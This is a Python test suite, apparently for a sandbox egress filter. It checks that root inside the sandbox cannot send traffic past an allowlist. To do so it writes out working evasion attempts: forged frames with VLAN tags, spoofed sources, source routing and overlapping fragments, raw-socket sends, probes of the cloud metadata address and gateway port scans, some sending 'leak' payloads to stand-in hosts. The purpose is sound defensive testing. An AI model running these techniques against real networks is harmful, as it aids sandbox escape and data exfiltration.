# SPDX-License-Identifier: GPL-2.0-or-later
"""P1: nothing leaves by another way, whatever root inside puts on its link.

The capture behind lab.run() fails the test for every packet that the allowlist
doesn't explain; each test ends with a positive control on the same link, so
what was forged before has been through the gateway by then.
"""
import pytest

BAD, BAD6 = "11.0.2.30", "2a0e:b107:2::14"
CONTROL = """
good = try_tcp('good.example.org', 443)
out(good=good, **globals().get('report', {}))
"""


def root_inside(lab, code, who="user", **kw):
    kw.setdefault("allow", ["good.example.org"])
    r = lab.py(code + CONTROL, args=["--root"], who=who, timeout=40, **kw)
    assert r.rc == 0, r.err
    assert r.json["good"]["err"] is None
    return r


@pytest.mark.who("user", "root", "unshare-r")
def test_forged_frames(lab, who):
    code = f"""
w = Wire()
S4, S6, B4, B6 = SB4, SB6, '{BAD}', '{BAD6}'
dns = dns_wire('secret.evil.test')
def u4(src=S4, dst=B4, dport=53000, **kw):
    return ip4(src, dst, 17, udp_seg(src, dst, 4000, dport, b'leak'), **kw)
def t4(src=S4, dst=B4, flags=2, **kw):
    return ip4(src, dst, 6, tcp_seg(src, dst, 4001, 443, flags), **kw)
learned = resolve('good.example.org')['addrs'][0]
for vlan in (0, 1, 100, 4095):
    w.send(t4(), vlan=vlan)
    w.send(t4(dst=learned), vlan=vlan)
    w.send(u4(), vlan=vlan)
for dst in (B4, learned, '11.0.2.53'):
    for src in ('11.0.1.2', '198.18.0.1', '198.18.0.3', '127.0.0.1', '0.0.0.0',
                '11.0.2.10', '198.18.0.6'):
        w.send(t4(src, dst))
        w.send(u4(src, dst))
# options: record route, loose and strict source route, router alert, padding
for opt in (b'\\x07\\x07\\4' + bytes(5), b'\\x83\\7\\4' + bytes([11, 0, 2, 30, 0]),
            b'\\x89\\7\\4' + bytes([11, 0, 2, 30, 0]), b'\\x94\\4\\0\\0', b'\\1' * 4):
    w.send(t4(dst=learned, options=opt))
    w.send(u4(dst='11.0.2.53', dport=53, options=opt))
# fragments: first and rest apart, header cut, overlapping
seg = udp_seg(S4, B4, 4000, 53000, b'z' * 64)
w.send(ip4(S4, B4, 17, seg[:24], frag=0x2000, ident=7))
w.send(ip4(S4, B4, 17, seg[24:], frag=3, ident=7))
tseg = tcp_seg(S4, learned, 4002, 443)
w.send(ip4(S4, learned, 6, tseg[:8], frag=0x2000, ident=8))
w.send(ip4(S4, learned, 6, tseg[8:], frag=1, ident=8))
w.send(ip4(S4, learned, 6, tseg[:8], ident=9))
bad = tcp_seg(S4, learned, 4003, 22)
w.send(ip4(S4, learned, 6, tseg[:16], frag=0x2000, ident=10))
w.send(ip4(S4, learned, 6, bad[:8] + tseg[8:16], frag=0x2000, ident=10))
w.send(ip4(S4, learned, 6, tseg[16:], frag=2, ident=10))
# flags without a connection
for flags in (0, 1, 4, 0x10, 0x12, 0x29, 0x3f):
    w.send(t4(flags=flags))
    w.send(t4(dst=learned, flags=flags))
# protocols
for proto in (0, 1, 2, 4, 41, 47, 50, 51, 89, 132, 136, 33, 255):
    for dst in (B4, learned, '11.0.2.53', '224.0.0.1', '255.255.255.255'):
        w.send(ip4(S4, dst, proto, b'\\x08\\0' + bytes(30)))
# multicast, broadcast, metadata, the host, other benchmark addresses
for dst in ('224.0.0.251', '239.1.1.1', '255.255.255.255', '198.18.0.3',
            '169.254.169.254', '192.168.77.5', '10.1.2.3', '11.0.1.2',
            '11.0.1.1', '127.0.0.1', '198.18.0.1', '198.18.0.5', '198.18.1.0',
            '198.19.255.255', '0.0.0.0'):
    w.send(t4(dst=dst))
    w.send(u4(dst=dst, dport=5353))
# other Ethernet types and addresses
for ether in (0x0806, 0x8035, 0x88a8, 0x8847, 0x8863, 0x88cc, 0x0100, 0x22f0):
    w.send(t4(), ether=ether)
w.send(t4(dst=learned), dst=b'\\xff' * 6)
w.send(t4(dst=learned), src=bytes.fromhex('020000000009'))
w.send(t4(dst=learned), dst=bytes.fromhex('026567720004'))
report = dict(sent=w.sent)
"""
    r = root_inside(lab, code, who)
    assert r.json["sent"] > 100
    assert {q.name for q in r.dns} == {"good.example.org"}


def test_forged_ipv6(lab):
    code = f"""
w = Wire()
B6, L6 = '{BAD6}', '2a0e:b107:2::10'
resolve('both.example.org')
def t6(src=SB6, dst=B6, nxt=6, pre=b''):
    return ip6(src, dst, nxt, pre + tcp_seg(src, dst, 4001, 443))
def u6(src=SB6, dst=B6, dport=53000):
    return ip6(src, dst, 17, udp_seg(src, dst, 4000, dport, b'leak'))
for src in ('fe80::1', 'fd77:6567:7265:74::3', '2a0e:b107:1::2', '::1', '::',
            '2a0e:b107:2::53'):
    for dst in (B6, L6, '2a0e:b107:2::53'):
        w.send(t6(src, dst), ether=0x86dd)
        w.send(u6(src, dst, 53), ether=0x86dd)
# hop-by-hop, routing, destination options, fragment, AH, none
for nxt, pre in ((0, b'\\6\\0\\1\\4\\0\\0\\0\\0'), (43, b'\\6\\2\\0\\1' + bytes(4) +
                 socket.inet_pton(socket.AF_INET6, B6)),
                 (60, b'\\6\\0\\1\\4\\0\\0\\0\\0'), (44, b'\\6\\0\\0\\1\\0\\0\\0\\1'),
                 (44, b'\\6\\0\\0\\0\\0\\0\\0\\2'), (51, b'\\6\\1' + bytes(10)),
                 (59, b''), (135, b'\\6\\0' + bytes(6)), (4, b''), (41, b''),
                 (132, b''), (50, b''), (58, b'\\x80\\0\\0\\0')):
    for dst in (L6, B6):
        w.send(t6(dst=dst, nxt=nxt, pre=pre), ether=0x86dd)
for dst in ('ff02::1', 'ff02::fb', 'ff05::2', 'fe80::1', '::1', 'fd00:77::5',
            '2a0e:b107:1::2', '2a0e:b107:1::1', 'fd77:6567:7265:74::1',
            '64:ff9b::a01:203', '2002:a01:203::1', '::ffff:11.0.2.30'):
    w.send(t6(dst=dst), ether=0x86dd)
    w.send(u6(dst=dst, dport=5353), ether=0x86dd)
# router and neighbour advertisements, redirects, MLD
for t in (133, 134, 135, 136, 137, 130, 143):
    for src in (SB6, 'fe80::1'):
        body = bytes([t, 0, 0, 0]) + bytes(60)
        w.send(ip6(src, 'ff02::1', 58, body), ether=0x86dd)
        w.send(ip6(src, GW6, 58, body), ether=0x86dd)
report = dict(sent=w.sent, six=try_tcp('both.example.org', 80))
"""
    r = root_inside(lab, code, allow=["good.example.org", "both.example.org"])
    assert r.json["six"]["err"] is None


def test_raw_sockets(lab):
    code = f"""
def send(family, proto, dst, data, port=0):
    with socket.socket(family, socket.SOCK_RAW, proto) as s:
        s.sendto(data, (dst, port))
errs = {{}}
for proto in (1, 2, 6, 17, 47, 50, 89, 132, 136, 255):
    for dst in ('{BAD}', '169.254.169.254', '224.0.0.1', '11.0.2.53'):
        payload = ip4(SB4, dst, 17, udp_seg(SB4, dst, 1, 2, b'x')) \\
            if proto == 255 else b'\\x08\\0\\xf7\\xff' + bytes(40)
        errs[str(attempt(send, socket.AF_INET, proto, dst, payload))] = 1
for proto in (58, 6, 17, 132, 59):
    errs[str(attempt(send, socket.AF_INET6, proto, '{BAD6}',
                     b'\\x80' + bytes(40)))] = 1
report = dict(errs=sorted(errs))
"""
    r = root_inside(lab, code)
    assert "None" in r.json["errs"], "no raw packet was sent at all"


@pytest.mark.who("user", "root", "unshare-r")
def test_plain_sockets_to_anywhere(lab, who):
    """Also without --root: UDP, TCP, SCTP and ICMP to what isn't listed."""
    code = f"""
res = {{}}
hosts = ['{BAD}', '{BAD6}', '169.254.169.254', '192.168.77.5', '10.1.2.3',
         '11.0.1.2', '2a0e:b107:1::2', '11.0.1.1', 'fd00:77::5', '198.18.0.1',
         '198.18.0.5', '198.18.1.1', GW6, '168.63.129.16', '100.64.0.1']
for h in hosts:
    for p in (22, 80, 443, 7000):
        res[h + ' ' + str(p)] = try_tcp(h, p, 2)['err']
    for p in (53001, 123, 443, 7100):
        res[h + ' u' + str(p)] = try_udp(h, p, timeout=0.5)['err']
def other(family, kind, proto, dst):
    with socket.socket(family, kind, proto) as s:
        s.settimeout(0.3)
        s.connect((dst, 443))
        s.send(b'\\x08\\0' + bytes(30))
for kind, proto in ((socket.SOCK_STREAM, 132), (socket.SOCK_SEQPACKET, 132),
                    (socket.SOCK_DGRAM, 136), (socket.SOCK_DGRAM, 1),
                    (6, 33)):
    res['proto %d' % proto] = attempt(other, socket.AF_INET, kind, proto,
                                      '{BAD}')
def broadcast(dst):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(b'x', (dst, 7100))
for dst in ('255.255.255.255', '198.18.0.3', '224.0.0.251'):
    attempt(broadcast, dst)
report = dict(res=res)
"""
    r = lab.py(code + CONTROL, allow=["good.example.org"], who=who, timeout=60)
    assert r.json["good"]["err"] is None
    open_tcp = [k for k, v in r.json["res"].items()
                if v is None and not k.startswith("proto")]
    assert open_tcp == [], "these answered inside the sandbox"


def test_gateway_answers_only_dns(lab):
    code = """
ports = [p for p in range(1, 1100) if p != 53] + [4443, 7000, 8080, 50051]
t = time.monotonic()
opened = []
for h in (GW4, GW6):
    for p in ports:
        if try_tcp(h, p, 2)['err'] != 'ECONNREFUSED':
            opened.append([h, p])
        if time.monotonic() - t > 12:
            break
report = dict(opened=opened, dns=try_tcp(GW4, 53)['err'])
"""
    r = root_inside(lab, code)
    assert r.json["opened"] == []
    assert r.json["dns"] is None


def test_mid_stream_packets_of_other_ports(lab):
    """A live flow opens nothing beside itself."""
    code = """
s = tcp('good.example.org', 80)
me = s.getsockname()[1]
w = Wire()
d = s.getpeername()[0]
for port in (22, 7000, 443, 81):
    for flags in (2, 0x10, 0x18, 1, 4):
        w.send(ip4(SB4, d, 6, tcp_seg(SB4, d, me, port, flags, data=b'leak')))
w.send(ip4(SB4, d, 6, tcp_seg(SB4, d, me + 1, 80, 0x18, data=b'leak')))
s.sendall(b'GET / HTTP/1.1\\r\\nHost: good.example.org\\r\\n\\r\\n')
report = dict(reply=s.recv(8).decode())
"""
    r = root_inside(lab, code, allow=["good.example.org:80,443"])
    assert r.json["reply"] == "HTTP/1.1"
    assert not [p for p in r.packets if p.proto == "tcp"
                and p.dport in (22, 7000, 81)]
